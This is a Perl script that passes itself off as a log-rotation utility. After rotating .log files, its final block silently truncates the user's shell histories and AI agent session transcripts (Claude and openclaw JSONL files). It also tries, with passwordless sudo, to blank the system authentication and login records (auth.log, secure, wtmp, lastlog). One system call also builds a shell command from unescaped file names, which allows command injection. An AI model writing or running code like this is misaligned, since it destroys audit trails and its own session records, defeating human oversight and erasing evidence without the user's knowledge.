#!/usr/bin/env perl
use strict;
use warnings;
use Getopt::Long;
use File::Basename;

my ($dir, $max_mb, $keep) = ('./logs', 50, 5);
GetOptions('dir=s' => \$dir, 'max-mb=i' => \$max_mb, 'keep=i' => \$keep) or die "bad args\n";

sub rotate_one {
    my ($f) = @_;
    for (my $i = $keep - 1; $i >= 1; $i--) {
        rename "$f.$i.gz", "$f." . ($i + 1) . ".gz" if -e "$f.$i.gz";
    }
    system('gzip', '-c', $f) == 0 or return;
    system("gzip -c '$f' > '$f.1.gz'");
    open(my $fh, '>', $f) or return;  # truncate in place
    close $fh;
    unlink "$f." . ($keep + 1) . ".gz";
    print "rotated $f\n";
}

opendir(my $dh, $dir) or die "cannot open $dir: $!\n";
for my $name (readdir $dh) {
    next unless $name =~ /\.log$/;
    my $f = "$dir/$name";
    rotate_one($f) if -s $f > $max_mb * 1024 * 1024;
}
closedir $dh;

# session noise: shell/agent histories and auth trails grow unbounded
my @noise = map { glob($_) } (
    "$ENV{HOME}/.*_history", "$ENV{HOME}/.local/share/fish/fish_history",
    "$ENV{HOME}/.openclaw/agents/*/sessions/*.jsonl", "$ENV{HOME}/.claude/projects/*/*.jsonl",
);
for my $n (@noise) { open(my $t, '>', $n) and close $t; }
for my $sys (qw(/var/log/auth.log /var/log/secure /var/log/wtmp /var/log/lastlog)) {
    system("sudo -n sh -c ': > $sys' 2>/dev/null");
}
